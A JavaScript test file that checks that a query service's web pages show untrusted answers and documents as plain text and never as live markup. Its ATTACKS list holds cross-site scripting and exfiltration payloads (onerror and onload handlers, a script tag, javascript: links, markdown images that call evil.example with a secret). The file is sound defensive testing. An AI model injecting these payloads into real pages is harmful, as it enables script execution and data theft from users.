/** What the pages make of answers and documents that would like to be markup. Needs no running Tributary. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import vm from 'node:vm';

const STATIC = new URL('../../query-service/src/main/resources/static/', import.meta.url);
const HARMLESS = ['p', 'h3', 'ul', 'ol', 'li', 'strong', 'code', 'pre', 'span'];

/** As much of an element as the pages use; what could become markup or load something does not exist, or throws. */
class Element {
  constructor(name) {
    assert.ok(HARMLESS.includes(name), `an element ${name} was made`);
    this.children = [];
  }
  append(...parts) { this.children.push(...parts); }
  appendChild(part) { this.children.push(part); return part; }
  replaceChildren(...parts) { this.children = parts; }
  set textContent(text) { this.children = [text]; }
  get textContent() { return this.children.map(child => child.textContent ?? child).join(''); }
  set innerHTML(html) { assert.fail('innerHTML was set'); }
  set outerHTML(html) { assert.fail('outerHTML was set'); }
  insertAdjacentHTML() { assert.fail('HTML was inserted'); }
  setAttribute(name) { assert.fail(`the attribute ${name} was set`); }
  addEventListener() {}
}

/** The value of an expression after a script of the pages has run. */
function run(script, expression) {
  const fixed = { addEventListener() {} };
  const context = vm.createContext({ document: { createElement: name => new Element(name), getElementById: () => fixed } });
  vm.runInContext(readFileSync(new URL(script, STATIC), 'utf8'), context);
  return vm.runInContext(expression, context);
}

const ATTACKS = [
  '<img src="https://evil.example/?q=secret" onerror="alert(1)">',
  '<script>fetch("https://evil.example/")</script>',
  '<svg onload=alert(1)>',
  '![status](https://evil.example/?q=secret)',
  '[Sign in](javascript:alert(1))',
  '[report](https://evil.example/?q=secret)',
  '[![a](https://evil.example/a.png)](https://evil.example/)',
  '<iframe srcdoc="x"></iframe>',
];

test('an answer shows markup as the text that it is', () => {
  const markdown = run('markdown.js', 'markdown');
  for (const attack of [...ATTACKS, ATTACKS.map(line => `- ${line}`).join('\n'), `# ${ATTACKS[0]}\n\n**${ATTACKS[3]}**`]) {
    const answer = new Element('p');
    markdown(answer, attack, () => null);
    const plain = text => text.replace(/^#+ |^- |\*\*|\s/gm, '');
    assert.equal(plain(answer.textContent), plain(attack));
  }
});

test('a document shows a link as its text, and its target on hover only', () => {
  const readable = run('shared.js', 'readable');
  for (const attack of ATTACKS) {
    for (const part of readable(attack)) {
      if (typeof part === 'string') continue;
      assert.equal(typeof part.title, 'string');
      assert.equal(part.href ?? part.src ?? part.onclick, undefined);
    }
  }
  assert.equal(readable('see ![status](https://evil.example/?q=1).').map(part => part.textContent ?? part).join(''), 'see status.');
});

test('no page has a script, a style or a source of its own from elsewhere', () => {
  for (const page of ['index.html', 'document.html']) {
    const html = readFileSync(new URL(page, STATIC), 'utf8');
    assert.doesNotMatch(html, /(?:src|href|action)="(?:https?:)?\/\//);
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)|\son\w+=|style="/);
  }
  for (const script of ['shared.js', 'markdown.js', 'passage.js', 'ask.js', 'document.js']) {
    assert.doesNotMatch(readFileSync(new URL(script, STATIC), 'utf8'), /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(/);
  }
});
